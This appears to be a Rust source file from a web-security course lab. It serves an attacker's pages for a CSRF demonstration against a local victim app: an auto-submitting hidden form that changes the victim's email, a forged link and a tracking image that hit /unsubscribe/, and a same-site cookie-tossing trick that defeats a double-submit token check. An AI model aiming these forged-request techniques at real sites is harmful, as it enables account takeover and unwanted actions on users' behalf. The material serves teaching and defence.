//! The attacker's site: the pages a CSRF attack puts on another site. The
//! chapter serves them twice, at `http://localhost:3110/`, another *site* than
//! the victim's `127.0.0.1`, and at `http://127.0.0.1:3210/`, the *same* site on
//! another port. Each page does what real attacks do: a form that posts itself
//! to the victim, a link and an image whose address is the victim's state-
//! changing GET. They only make the browser send requests; what the browser
//! attaches to them, and what the victim does with them, is the lab.

use std::sync::Arc;

use axum::{
    Router,
    extract::State,
    http::header,
    response::{IntoResponse, Response},
    routing::get,
};
use course_kit::{csrf, lab::attacker_page};
use maud::{Markup, html};

use course_kit::{OtherSite, lab::attacker_site};

use crate::ATTACKER_EMAIL;

/// The `csrftoken` the same-site attacker sets for the host 127.0.0.1, and
/// puts in its forged form: chapter 4's double-submit check compares the two,
/// finds them equal, and is fooled. 43 base64url characters, as a real token.
pub const TOSSED_TOKEN: &str = "MalloryTossedThisCookieFromAnotherPort00000";

/// Where each site of the lab is, built from the port the chapter runs on:
/// the victim's pages link to the attacker's, and the attacker's pages aim
/// at the victim.
pub struct Urls {
    pub victim: String,
    pub attacker: String,
    pub same_site_attacker: String,
    attacker_port: u16,
    same_site_port: u16,
}

impl Urls {
    /// The attacker listens 100 ports above the chapter (3110), the
    /// same-site attacker 200 above (3210); below, if that is past 65535.
    pub fn new(port: u16) -> Self {
        let near = |offset: u16| port.checked_add(offset).unwrap_or(port - offset);
        let (attacker_port, same_site_port) = (near(100), near(200));
        Self {
            victim: format!("http://127.0.0.1:{port}"),
            attacker: format!("http://localhost:{attacker_port}"),
            same_site_attacker: format!("http://127.0.0.1:{same_site_port}"),
            attacker_port,
            same_site_port,
        }
    }
}

/// The attacker's two sites: on localhost (another site than the victim's)
/// and on another port of 127.0.0.1 (the same site).
pub fn sites(urls: &Urls) -> (OtherSite, OtherSite) {
    let cross_site = attacker_site("localhost", urls.attacker_port, routes(urls, false));
    let same_site = attacker_site("127.0.0.1", urls.same_site_port, routes(urls, true));
    let same_site = OtherSite {
        name: "Same-site attacker",
        ..same_site
    };
    (cross_site, same_site)
}

/// Where the pages aim, and whether this copy is the same-site attacker.
struct Attacker {
    /// `http://127.0.0.1:3010`
    victim: String,
    /// This site's own address, for its pages' words.
    own: String,
    same_site: bool,
}

/// The attacker's routes, aimed at the victim of `urls`.
fn routes(urls: &Urls, same_site: bool) -> Router {
    let own = if same_site {
        &urls.same_site_attacker
    } else {
        &urls.attacker
    };
    let attacker = Arc::new(Attacker {
        victim: urls.victim.clone(),
        own: own.clone(),
        same_site,
    });
    Router::new()
        .route("/", get(index))
        .route("/post/", get(forged_post))
        .route("/link/", get(forged_link))
        .route("/image/", get(forged_image))
        .with_state(attacker)
}

async fn index(State(attacker): State<Arc<Attacker>>) -> Markup {
    let (whose, why) = if attacker.same_site {
        (
            "the same site as the victim",
            "Same host, 127.0.0.1, another port: the browser counts ports in an origin, not in a site. So SameSite, even Strict, lets the victim's cookie come along.",
        )
    } else {
        (
            "another site than the victim",
            "localhost and 127.0.0.1 are two hosts, so two sites, though both are this machine. SameSite decides which of these requests carry the victim's cookie.",
        )
    };
    let content = html! {
        h1 { "Mallory's page" }
        p { "This is " (attacker.own) "/, " strong { (whose) } ", " (attacker.victim) "/. " (why) }
        p { "Each attack below makes your browser send a request to the victim. Go back to the victim's page afterwards: its log says what the request did." }
        ul {
            li { a href="/post/" { "A form that posts itself" } ": POST " (attacker.victim) "/email/, to change alice's e-mail address to " (ATTACKER_EMAIL) "." }
            li { a href="/link/" { "A link" } ": you click it, and your browser goes to GET " (attacker.victim) "/unsubscribe/." }
            li { a href="/image/" { "An image" } ": the page loads it from " (attacker.victim) "/unsubscribe/, without a click." }
        }
        p { a href={ (attacker.victim) "/" } { "Back to the victim, alice's account" } }
    };
    attacker_page("Mallory's page", content)
}

// ANCHOR: forged_post
/// A form aimed at the victim, which a script submits as soon as the page has
/// loaded. The visitor sees nothing but the victim's answer.
async fn forged_post(State(attacker): State<Arc<Attacker>>) -> Response {
    let content = html! {
        h1 { "You have won a prize!" }
        form #forged method="post" action={ (attacker.victim) "/email/" } {
            input type="hidden" name="email" value=(ATTACKER_EMAIL);
            @if attacker.same_site {
                // The same host may set cookies for it: the tossed cookie and
                // the field match, and only a token the attacker cannot set
                // (one kept in the session) tells them apart from the real one.
                (csrf::hidden_input(TOSSED_TOKEN))
            }
            p { button type="submit" { "Claim your prize" } }
        }
        script { "document.forms[0].submit();" }
        p.hint { "With scripts on, this page posts the form the moment it loads; with scripts off, the button does it." }
    };
    let page = attacker_page("You have won a prize!", content);
    if attacker.same_site {
        let tossed = format!(
            "{}={TOSSED_TOKEN}; Path=/; Max-Age=60; SameSite=Lax",
            csrf::COOKIE
        );
        ([(header::SET_COOKIE, tossed)], page).into_response()
    } else {
        page.into_response()
    }
}
// ANCHOR_END: forged_post

async fn forged_link(State(attacker): State<Arc<Attacker>>) -> Markup {
    let content = html! {
        h1 { "See your prize" }
        p { a href={ (attacker.victim) "/unsubscribe/" } { "Click here to see your prize" } }
        p.hint { "The link leads to the victim's GET /unsubscribe/: a top-level navigation, the one kind of request from another site that SameSite=Lax lets the cookie join." }
    };
    attacker_page("See your prize", content)
}

async fn forged_image(State(attacker): State<Arc<Attacker>>) -> Markup {
    let content = html! {
        h1 { "Nothing to see here" }
        img src={ (attacker.victim) "/unsubscribe/" } alt="" width="1" height="1";
        p.hint {
            "This page has already loaded an \"image\" from " (attacker.victim) "/unsubscribe/. It is no image, so nothing shows; "
            "the request went out all the same. A cookie joins it only as a third-party cookie: SameSite=None, and only where the browser allows those."
        }
    };
    attacker_page("Nothing to see here", content)
}
